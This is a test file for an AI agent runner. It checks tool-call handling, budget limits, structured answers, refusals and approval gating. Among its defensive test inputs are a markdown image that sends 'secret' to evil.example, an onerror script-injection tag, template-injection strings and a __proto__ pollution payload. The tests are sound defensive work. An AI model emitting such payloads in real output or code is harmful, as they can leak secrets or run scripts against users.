import { describe, expect, test } from 'vitest'
import { StepFailure } from '../kit/index.ts'
import { isSuspended } from '../kit/suspended.ts'
import { agent, call, tool, usage } from './test-agent.ts'

const find = tool({ name: 'find', give: { status: 'shipped' } })
const resultsOf = (one: ReturnType<typeof agent>, at: number) => {
  const message = one.asked[at]?.messages.at(-1)
  return message?.role === 'tool' ? message.results : []
}

describe('a conversation', () => {
  test('answers, and says what it used', async () => {
    const one = agent([{ text: 'Hello' }])
    expect(await one.run()).toMatchObject({
      ...{ text: 'Hello', data: null, used: [] },
      spent: { steps: 1, inputTokens: 100, outputTokens: 10, costUsd: 0.01 },
    })
    expect(one.streamed).toEqual(['Hello'])
  })

  test('uses a tool, and hears what it gave as data', async () => {
    const one = agent([{ calls: [call('find', { n: 7 })] }, { text: 'Shipped' }], { tools: [find] })
    const { said, used } = await one.run()
    expect(used).toMatchObject([{ tool: 'find', args: { n: 7 }, failed: false }])
    expect(said.map(({ role }) => role)).toEqual(['user', 'assistant', 'tool', 'assistant'])
    expect(resultsOf(one, 1)).toEqual([
      {
        id: 'find',
        name: 'find',
        output: '<data from="find">\n{"status":"shipped"}\n</data>',
        failed: false,
      },
    ])
  })

  test('streams what it says before a tool apart from what it says after, and nothing when it is run again', async () => {
    const one = agent([{ text: 'Let me look', calls: [call('find')] }, { text: 'Shipped' }], {
      tools: [find],
    })
    await one.run()
    await one.run()
    expect(one.streamed.join('')).toBe('Let me look\n\nShipped')
  })

  test('uses several tools at once, and names each call of its own', async () => {
    const calls = [call('find', { n: 1 }, 'a'), call('find', { n: 2 }, 'b')]
    const one = agent([{ calls }, { calls: [call('find', { n: 3 }, 'c')] }, { text: 'Done' }], {
      tools: [find],
    })
    await one.run()
    expect(one.used.map(({ name }) => name)).toEqual(['tool[0].find', 'tool[1].find', 'tool[2].find'])
    expect(one.subSteps.map(({ name }) => name)).toEqual(['model[0]', 'model[1]', 'model[2]'])
  })

  test('what a tool fails with goes back to the model', async () => {
    const broken = tool({
      name: 'find',
      call: async () => ({ failure: { code: 'http_404', message: 'No such order' } }),
    })
    const one = agent([{ calls: [call('find')] }, { text: 'There is none' }], { tools: [broken] })
    expect((await one.run()).text).toBe('There is none')
    expect(resultsOf(one, 1)).toMatchObject([
      { failed: true, output: expect.stringContaining('No such order') },
    ])
  })

  test('what must end the step is thrown', async () => {
    const broken = tool({
      name: 'pay',
      call: async () => {
        throw new StepFailure({ code: 'outcome_unknown', message: 'Who knows', retryable: false })
      },
    })
    expect(await agent([{ calls: [call('pay')] }], { tools: [broken] }).fails()).toBe('outcome_unknown')
  })

  test('run again, it pays for nothing twice and comes to the same end', async () => {
    const one = agent([{ calls: [call('find')] }, { text: 'Shipped' }], { tools: [find] })
    const first = await one.run()
    const { asked, used } = one
    expect(await one.run()).toEqual(first)
    expect([asked.length, used.length]).toEqual([2, 1])
  })

  test('thinking that a model signed goes back with its message', async () => {
    const kept = { model: 'm', content: [{ type: 'thinking', thinking: '', signature: 's' }] }
    const one = agent([{ calls: [call('find')], kept }, { text: 'Shipped' }], { tools: [find] })
    await one.run()
    await one.run()
    expect(one.asked[1]?.messages[1]).toMatchObject({ role: 'assistant', kept })
  })

  test('what was said before comes first', async () => {
    const history = [
      { role: 'user' as const, text: 'I am Ada' },
      { role: 'assistant' as const, text: 'Hello Ada', calls: [] },
    ]
    const one = agent([{ text: 'Ada' }], { task: { history, message: 'Who am I?' } })
    const { said } = await one.run()
    expect(one.asked[0]?.messages.map((message) => 'text' in message && message.text)).toEqual([
      'I am Ada',
      'Hello Ada',
      'Who am I?',
    ])
    expect(said).toHaveLength(2)
  })
})

describe('calls that are not right go back to the model, and nothing runs', () => {
  test.each([
    ['a tool it does not have', call('delete_all'), 'There is no tool delete_all. There are: find.'],
    ['a wrong type', call('find', { n: 'seven' }), 'n must be a whole number'],
    ['a field nobody asked for', call('find', { evil: 1 }), 'evil is not asked for'],
    ['__proto__', call('find', JSON.parse('{"__proto__":{"a":1}}')), '__proto__ is not asked for'],
    ['10 MB', call('find', { to: 'x'.repeat(10_000_000) }), 'longer than'],
    ['no JSON', { ...call('find'), unreadable: '{"n":' }, 'no JSON object'],
    ['a name of Object’s', call('constructor'), 'There is no tool constructor'],
  ])('%s', async (_, wrong, expected) => {
    const one = agent([{ calls: [wrong] }, { text: 'Sorry' }], { tools: [find] })
    expect((await one.run()).text).toBe('Sorry')
    expect(one.used).toEqual([])
    expect(resultsOf(one, 1)).toMatchObject([{ failed: true, output: expect.stringContaining(expected) }])
  })

  test('text that looks computed stays text', async () => {
    const one = agent([{ calls: [call('find', { to: '{{ secrets.key }} ${1+1}' })] }, { text: 'Ok' }], {
      tools: [find],
    })
    await one.run()
    expect(one.used[0]?.args).toEqual({ to: '{{ secrets.key }} ${1+1}' })
  })

  test('1,000 at once: ten run, the rest is told to wait', async () => {
    const calls = Array.from({ length: 1_000 }, (_, n) => call('find', { n }, `c${n}`))
    const one = agent([{ calls }, { text: 'Ok' }], { tools: [find] })
    await one.run()
    expect(one.used).toHaveLength(10)
    expect(resultsOf(one, 1)).toHaveLength(1_000)
  })
})

describe('limits stop it before the next call', () => {
  const forever = Array.from({ length: 50 }, () => ({ calls: [call('find')] }))
  test.each([
    ['model calls', { steps: 3, tokens: 1e6 }, 3],
    ['tokens', { steps: 50, tokens: 250 }, 3],
    ['dollars', { steps: 50, tokens: 1e6, costUsd: 0.02 }, 2],
  ])('%s', async (_, limits, calls) => {
    const one = agent(forever, { tools: [find], task: { limits } })
    expect(await one.fails()).toBe('budget_reached')
    expect(one.asked).toHaveLength(calls)
  })

  test('a limit in dollars with a model of unknown price', async () => {
    const unknown = { calls: [call('find')], usage: { ...usage, costUsd: null } }
    const limits = { steps: 50, tokens: 1e6, costUsd: 5 }
    const one = agent([unknown, unknown], { tools: [find], task: { limits } })
    expect(await one.fails()).toBe('price_unknown')
    expect(one.asked).toHaveLength(1)
  })
})

describe('an answer of a shape', () => {
  const wanted = {
    kind: 'json' as const,
    schema: { type: 'object', properties: { n: { type: 'integer' } }, required: ['n'] },
  }
  test.each([
    ['as data', { text: '{"n":1}', data: { n: 1 } }],
    ['as text', { text: '{"n":1}' }],
    ['in a fence', { text: '```json\n{"n":1}\n```' }],
  ])('%s', async (_, reply) => {
    const one = agent([reply], { task: { wanted } })
    expect((await one.run()).data).toEqual({ n: 1 })
    expect(one.streamed).toEqual([])
    expect(one.asked[0]).toMatchObject({ schema: wanted.schema })
  })

  test('that does not fit goes back once, with what is wrong', async () => {
    const one = agent([{ text: '{"n":"x"}' }, { text: '{"n":2}' }], { task: { wanted } })
    expect((await one.run()).data).toEqual({ n: 2 })
    expect(one.asked[1]?.messages.at(-1)).toMatchObject({
      role: 'user',
      text: expect.stringContaining('n must be a whole number'),
    })
  })

  test('that never fits fails the step', async () => {
    expect(await agent([{ text: 'one' }, { text: 'two' }], { task: { wanted } }).fails()).toBe(
      'invalid_answer',
    )
  })
})

describe('an answer that is none', () => {
  test('a refusal', async () => expect(await agent([{ stop: 'refused' }]).fails()).toBe('model_refused'))
  test('one that was cut', async () => {
    expect(await agent([{ text: 'Half', stop: 'length' }]).fails()).toBe('answer_cut')
    const cut = { calls: [call('find')], stop: 'length' as const }
    expect(await agent([cut], { tools: [find] }).fails()).toBe('answer_cut')
  })
})

test('text stays text: nothing in it is looked at, fetched or computed', async () => {
  const text = '![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> {{ trigger }}'
  expect((await agent([{ text }]).run()).text).toBe(text)
})

test('a question that waits goes out last: what must end the step goes first', async () => {
  const broken = tool({
    name: 'pay',
    call: async () => {
      throw new StepFailure({ code: 'cancelled', message: 'Cancelled', retryable: false })
    },
  })
  const careful = tool({ name: 'send', approval: 'editor' })
  const calls = [call('send'), call('pay')]
  expect(await agent([{ calls }], { tools: [broken, careful] }).fails()).toBe('cancelled')
  const waiting: unknown = await agent([{ calls: [call('send')] }], { tools: [careful] })
    .run()
    .catch((error: unknown) => error)
  expect(isSuspended(waiting)).toBe(true)
})
